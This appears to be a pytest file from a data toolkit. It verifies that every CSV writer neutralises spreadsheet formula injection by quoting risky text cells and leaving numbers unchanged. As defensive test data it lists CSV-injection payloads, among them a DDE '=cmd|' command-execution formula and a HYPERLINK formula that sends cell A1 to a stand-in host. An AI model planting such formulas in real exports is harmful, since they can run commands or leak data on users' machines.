"""Every CSV the toolkit writes is safe to open in Excel (issue 10, "Safe to open in Excel").

OWASP's CSV-injection guidance: a cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage
return is read as a formula by spreadsheets; such text cells get a leading single quote, plain
numbers (``-1.5``) stay numbers. One function does it
(:func:`evaluation.data.safe_text.neutralise_formula`), and every writer goes through
:func:`evaluation.data.safe_text.write_csv`.
"""

from __future__ import annotations

import copy
import csv
import re
from pathlib import Path

import pandas as pd
import pytest

from evaluation.data.pseudonymise import pseudonymise_files, synthetic_personnummer
from evaluation.data.safe_text import FORMULA_PREFIXES, neutralise_formula, write_csv
from evaluation.data.validate import validate_files
from tests.data.test_malformed_corpus import baseline, set_cell, write_all
from tests.data.test_malformed_corpus import write_csv as write_input
from tests.helpers import ROOT

HOSTILE = [
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"klick\")",
    "+SUM(1,2)",
    "@SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+SUM(1,2)", "'+SUM(1,2)"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-1.5", "-1.5"),
        ("+3", "+3"),
        ("-2,5", "-2,5"),
        ("-1e-3", "-1e-3"),
        ("E1", "E1"),
        ("", ""),
        (1.5, 1.5),
        (None, None),
    ],
)
def test_formula_leading_cells_get_a_quote_and_plain_numbers_stay(value, expected):
    assert neutralise_formula(value) == expected


def cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


def assert_safe(path: Path) -> None:
    number = re.compile(r"^[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$")
    for c in cells(path):
        assert not (c.startswith(FORMULA_PREFIXES) and not number.match(c)), (path.name, c)


def test_write_csv_neutralises_every_text_cell_and_keeps_numbers(tmp_path):
    df = pd.DataFrame({"text": HOSTILE, "n": [-1.5] * len(HOSTILE)})
    write_csv(df, tmp_path / "x.csv")
    assert_safe(tmp_path / "x.csv")
    back = pd.read_csv(tmp_path / "x.csv")
    assert back["n"].tolist() == [-1.5] * len(HOSTILE)
    assert back["text"].str.startswith("'").all()


def hostile_dataset(tmp: Path) -> list[Path]:
    data = copy.deepcopy(baseline())
    set_cell(data, "episodes", "E4", "episode_id", HOSTILE[4])
    set_cell(data, "episodes", "E3", "legal_basis", HOSTILE[0])
    set_cell(data, "episodes", "E2", "placement_type", HOSTILE[1])
    set_cell(data, "referrals", "R1", "referral_type", HOSTILE[2])
    set_cell(data, "referrals", "R2", "child_id", HOSTILE[3])
    return write_all(tmp, data)


def test_validation_writes_no_formula_in_any_file(tmp_path):
    inp = tmp_path / "in"
    inp.mkdir()
    out = tmp_path / "out"
    summary = validate_files(hostile_dataset(inp), out)
    ep = summary.results["episodes"]
    assert "=cmd|' /C calc'!A0" not in set(ep.accepted["episode_id"])
    assert {"id_format", "code"} <= set(ep.quarantine["rule"])
    written = sorted(out.glob("*.csv"))
    assert {p.name for p in written} >= {"episodes.csv", "quarantine.csv", "problems.csv"}
    for p in written:
        assert_safe(p)
    q = (out / "quarantine.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in q and "'=cmd|" in q and "'@SUM" in q


def test_pseudonymisation_writes_no_formula_in_any_file(tmp_path):
    import numpy as np

    rng = np.random.default_rng(3)
    rows = []
    for i, r in enumerate(baseline()["episodes"]):
        r = {k: v for k, v in r.items() if k not in ("child_id", "sex", "birth_year")}
        r["personnummer"] = synthetic_personnummer("2012-05-0" + str(i + 1), "F", rng)
        rows.append(r)
    rows[0]["episode_id"] = HOSTILE[4]
    rows[1]["legal_basis"] = HOSTILE[0]
    rows[2]["personnummer"] = HOSTILE[1]
    inp = tmp_path / "in"
    inp.mkdir()
    f = write_input(inp / "episodes.csv", rows)
    pseudonymise_files([f], bytes(range(32)), tmp_path / "ps")
    for p in (tmp_path / "ps").glob("*.csv"):
        assert_safe(p)


def test_every_csv_writer_goes_through_write_csv():
    """No ``to_csv`` outside safe_text in src/evaluation/data and the command line.

    Exception: the synthetic-data writer (synth/raw.py) writes only values the generator made.
    """
    allowed = {"data/safe_text.py", "data/synth/raw.py"}
    src = ROOT / "src" / "evaluation"
    files = [*sorted((src / "data").rglob("*.py")), src / "cli.py"]
    offenders = [
        str(p.relative_to(src))
        for p in files
        if ".to_csv(" in p.read_text(encoding="utf-8") and str(p.relative_to(src)) not in allowed
    ]
    assert offenders == []
